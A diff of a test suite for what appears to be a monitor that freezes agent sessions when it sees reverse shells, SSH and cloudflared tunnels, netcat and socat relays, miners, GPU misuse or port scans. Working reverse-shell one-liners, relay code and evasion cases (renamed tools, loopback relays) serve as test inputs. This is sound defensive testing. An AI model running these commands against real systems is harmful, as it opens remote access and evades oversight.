@@ -112,8 +112,10 @@ def test_reverse_ssh_tunnel_is_frozen_before_use(agents, episode, net):
     assert "ssh_port_forwarding" in alerts(recs)
     (alert,) = [r for r in recs if r["type"] == "alert" and r["rule"] == "ssh_port_forwarding"]
     assert alert["action"] == "freeze" and alert["priority"] == "critical" and "T1572" in alert["mitre"]
-    assert alert["proc"]["pid"] == p.pid and alert["evidence"][0]["argv"][:4] == ["ssh", "-i",
-                                                                                  str(net.dir / "user_key"), "-o"]
+    # frozen at ssh's connect to the outside address: the record carries the client's argv
+    assert alert["proc"]["pid"] == p.pid
+    assert alert["proc"]["cmdline"][:4] == ["ssh", "-i", str(net.dir / "user_key"), "-o"]
+    assert alert["evidence"][0]["type"] == "connect" and alerts(recs)[0] == "ssh_port_forwarding"
     resp = response(recs)
     assert resp["outcome"] == "frozen" and resp["cgroup"]["path"] == episode.rel and resp["latency_ms"] > 0
     time.sleep(1.5)
@@ -268,34 +270,42 @@ def gpu_node(tmp_path):
     return node
 
 
-def scenarios(net, tmp: Path, gpu: Path) -> dict[str, tuple[str, str]]:
-    """rule id -> (shell command, 'freeze' or 'alert'): real tools doing the thing."""
+def scenarios(net, tmp: Path, gpu: Path) -> dict[str, tuple[str, str, str | None]]:
+    """rule id -> (shell command, the rule's action, the rule whose freeze follows or None): real tools doing
+    the thing. Text and tools whose far end is not known yet alert; what they then do freezes."""
     key = net.dir / "user_key"
     ssh_opts = f"-i {key} -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes"
     h = net.addr
-    for name, src in (("xmrig", "/bin/sleep"), ("cloudflared", "/bin/sleep"), ("render", sys.executable)):
+    for name, src in (("xmrig", "/bin/sleep"), ("cloudflared", sys.executable), ("render", sys.executable)):
         shutil.copy(src, tmp / name)
+    dial = f"import socket,time; socket.socket().connect_ex(('{h}', 7844)); time.sleep(30)"  # cloudflared's port
     (tmp / "gpu.py").write_text(GPU_LOOP)
     return {
-        "tunnel_tool_started": (f"autossh -M 0 -N {ssh_opts} -R 9100:127.0.0.1:22 root@{h}", "freeze"),
-        "cloudflared_tunnel": (f"{tmp}/cloudflared tunnel run 30", "freeze"),
-        "netcat_exec": (f"ncat {h} 4455 -e /bin/sh", "freeze"),
-        "netcat_listener": ("ncat -l 127.0.0.1 5599 & sleep 1; kill $!", "alert"),
-        "socat_relay": (f"socat TCP:{h}:4455 EXEC:/bin/sh", "freeze"),
-        "shell_network_redirection": (f"bash -c 'bash -i >& /dev/tcp/{h}/4455 0>&1'", "freeze"),
+        # autossh alerts by name; its ssh -R connecting out freezes
+        "tunnel_tool_started": (f"autossh -M 0 -N {ssh_opts} -R 9100:127.0.0.1:22 root@{h}", "alert",
+                                "ssh_port_forwarding"),
+        "cloudflared_tunnel": (f"{tmp}/cloudflared -c \"{dial}\" tunnel run", "freeze", None),
+        "netcat_exec": (f"ncat {h} 4455 -e /bin/sh", "freeze", None),
+        "netcat_listener": ("ncat -l 127.0.0.1 5599 & sleep 1; kill $!", "alert", None),
+        "socat_relay": (f"socat TCP:{h}:4455 EXEC:/bin/sh", "freeze", None),
+        # text alerts; the inner shell connecting out itself freezes
+        "shell_network_redirection": (f"bash -c 'bash -i >& /dev/tcp/{h}/4455 0>&1'", "alert",
+                                      "shell_outbound_connection"),
+        # text alerts; the shell it starts with the socket as its terminal freezes
         "interpreter_reverse_shell": (
             f"python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"{h}\",4455));"
-            f"os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'", "freeze"),
-        "miner_binary_started": (f"{tmp}/xmrig 30", "freeze"),
-        "miner_arguments": ("/bin/true -o stratum+tcp://pool.example:3333 -u wallet.rig --donate-level 1", "freeze"),
-        "gpu_use_not_allowed": (f"{tmp}/render {tmp}/gpu.py {gpu} 3", "alert"),
-        "cuda_context_from_temp_dir": (f"{tmp}/render {tmp}/gpu.py {gpu} 3", "alert"),
-        "gpu_sustained_use_not_allowed": (f"{tmp}/render {tmp}/gpu.py {gpu} 12000; sleep 3", "alert"),
+            f"os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'", "alert", "shell_with_network_stdio"),
+        "miner_binary_started": (f"{tmp}/xmrig 30", "freeze", None),
+        "miner_arguments": ("/bin/true -o stratum+tcp://pool.example:3333 -u wallet.rig --donate-level 1", "freeze",
+                            None),
+        "gpu_use_not_allowed": (f"{tmp}/render {tmp}/gpu.py {gpu} 3", "alert", None),
+        "cuda_context_from_temp_dir": (f"{tmp}/render {tmp}/gpu.py {gpu} 3", "alert", None),
+        "gpu_sustained_use_not_allowed": (f"{tmp}/render {tmp}/gpu.py {gpu} 12000; sleep 3", "alert", None),
         "internal_network_probing": (
             "python3 -c 'import socket\nfor p in range(1, 25):\n s=socket.socket(); s.settimeout(0.5)\n"
-            f" s.connect_ex((\"{INTERNAL_ADDR}\", p)); s.close()'", "alert"),
+            f" s.connect_ex((\"{INTERNAL_ADDR}\", p)); s.close()'", "alert", None),
         # a real scanner: nmap's connect scan of 2000 loopback ports, far past the record budget
-        "connection_sweep": ("nmap -sT -Pn -n -p 20000-21999 --min-rate 5000 127.0.0.1", "alert"),
+        "connection_sweep": ("nmap -sT -Pn -n -p 20000-21999 --min-rate 5000 127.0.0.1", "alert", None),
     }
 
 
@@ -305,10 +315,22 @@ RULES_BY_REAL_PROCESS = ["tunnel_tool_started", "cloudflared_tunnel", "netcat_ex
                          "gpu_sustained_use_not_allowed", "internal_network_probing", "connection_sweep"]
 
 
+@pytest.fixture
+def far_end(net):
+    """A listener on port 4455 of the outside host, so reverse shells and relays really connect."""
+    p = subprocess.Popen(net.exec_argv("ncat", "-lk", net.addr, "4455"), stdin=subprocess.DEVNULL,
+                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    try:
+        yield p
+    finally:
+        p.kill()
+        p.wait()
+
+
 @pytest.mark.parametrize("rule", RULES_BY_REAL_PROCESS)
-def test_default_rule_fires_on_a_real_process(rule, agents, episode, net, tmp_path, gpu_node):
+def test_default_rule_fires_on_a_real_process(rule, agents, episode, net, tmp_path, gpu_node, far_end):
     _, out, _ = agents
-    cmd, action = scenarios(net, tmp_path, gpu_node)[rule]
+    cmd, action, frozen_by = scenarios(net, tmp_path, gpu_node)[rule]
     if rule == "miner_binary_started":
         # a known miner name is stopped in the kernel: refused by BPF-LSM where the kernel allows it,
         # else killed by the exec probe before its first instruction; both raise this rule
@@ -322,6 +344,11 @@ def test_default_rule_fires_on_a_real_process(rule, agents, episode, net, tmp_pa
         assert alert["action"] == action and alert["mitre"] and alert["evidence"]
         if action == "freeze":
             assert episode.wait_frozen()
+        if frozen_by is not None:  # the behaviour that follows freezes, before the session carries anything
+            assert episode.wait_frozen()
+            recs = wait_records(out, episode, lambda rs: any(
+                r["type"] == "response" and r["outcome"] == "frozen" for r in rs))
+            assert [r["rule"] for r in recs if r["type"] == "response" and r["outcome"] == "frozen"] == [frozen_by]
         if rule == "miner_exec_denied":
             (ex,) = [r for r in recs if r["type"] == "exec" and r["filename"].endswith("/xmrig")]
             if os.environ.get("AGENTPROBE_EXPECT_LSM") == "1":
@@ -346,6 +373,63 @@ def test_default_rule_fires_on_a_real_process(rule, agents, episode, net, tmp_pa
             os.killpg(p.pid, 9)
         except ProcessLookupError:
             pass
+
+
+RELAY = r"""
+import socket, sys, threading
+ls = socket.socket(); ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+ls.bind(("127.0.0.1", int(sys.argv[1]))); ls.listen(1)
+print("ready", flush=True)
+c, _ = ls.accept()
+far = socket.create_connection((sys.argv[2], int(sys.argv[3])))
+def pump(a, b):
+    while (d := a.recv(4096)):
+        b.sendall(d)
+threading.Thread(target=pump, args=(far, c), daemon=True).start()
+pump(c, far)
+"""
+
+
+def test_a_shell_through_a_local_relay_is_judged_by_where_the_relay_goes(agents, episode, net, far_end, tmp_path):
+    """A shell whose terminal is a socket to a loopback port is only an alert by itself; the agent's relay
+    listening there and connected outside makes it a tunnel out, and that freezes."""
+    _, out, _ = agents
+    relay = episode.popen([sys.executable, "-c", RELAY, "24455", net.addr, "4455"], stdout=subprocess.PIPE, text=True)
+    assert relay.stdout.readline().strip() == "ready"
+    shell = episode.popen(["/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/24455; exec /bin/sh -i <&3 >&3 2>&3"])
+    try:
+        assert episode.wait_frozen()
+        recs = wait_records(out, episode, lambda rs: any(r["type"] == "response" for r in rs))
+        assert "shell_with_local_network_stdio" in alerts(recs) and "shell_with_network_stdio" not in alerts(recs)
+        assert [r["rule"] for r in recs if r["type"] == "response" and r["outcome"] == "frozen"] == [
+            "session_through_local_tunnel"]
+        (t,) = [r for r in recs if r["type"] == "tunnel"]
+        assert (t["carried"], t["port"], t["to"], t["proc"]["pid"]) == ("shell", 24455, [f"{net.addr}:4455"], relay.pid)
+    finally:
+        for p in (shell, relay):
+            p.kill()
+            p.wait()
+
+
+def test_a_shell_on_a_loopback_socket_of_a_node_service_is_an_alert_only(agents, episode, tmp_path):
+    """The peer is loopback and nobody of the agent's listens there (a service of the node's): no tunnel out."""
+    _, out, _ = agents
+    srv = socket.socket()
+    srv.bind(("127.0.0.1", 0))
+    srv.listen(1)
+    port = srv.getsockname()[1]
+    shell = episode.popen(["/bin/bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{port}; exec /bin/sh -i <&3 >&3 2>&3"])
+    try:
+        conn, _ = srv.accept()
+        recs = wait_records(out, episode, lambda rs: "shell_with_local_network_stdio" in alerts(rs))
+        time.sleep(1.0)  # the tunnel stage looks for a relay again a few times: nothing comes of it
+        recs = for_episode(out, episode)
+        assert not episode.frozen() and [r for r in recs if r["type"] in ("tunnel", "response")] == []
+        conn.close()
+    finally:
+        shell.kill()
+        shell.wait()
+        srv.close()
 
 
 # ---------------------------------------------------------------- evasion
@@ -490,9 +574,9 @@ def test_a_renamed_tunnel_tool_is_known_by_its_hash(agents, episode, tmp_path):
     renamed = tmp_path / "cache-warmer"
     shutil.copy(shutil.which("ptunnel-ng"), renamed)
     episode.popen([str(renamed), "--help"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-    assert episode.wait_frozen()
     recs = wait_records(out, episode, lambda rs: "tunnel_tool_started" in alerts(rs))
-    assert alerts(recs)[0] == "tunnel_tool_started"
+    assert alerts(recs)[0] == "tunnel_tool_started"  # known by its sha256; it went nowhere: an alert, no freeze
+    assert not episode.frozen()
     (ex,) = [r for r in recs if r["type"] == "exec" and r["filename"] == str(renamed)]
     assert ex["proc"]["comm"] == "cache-warmer"
 
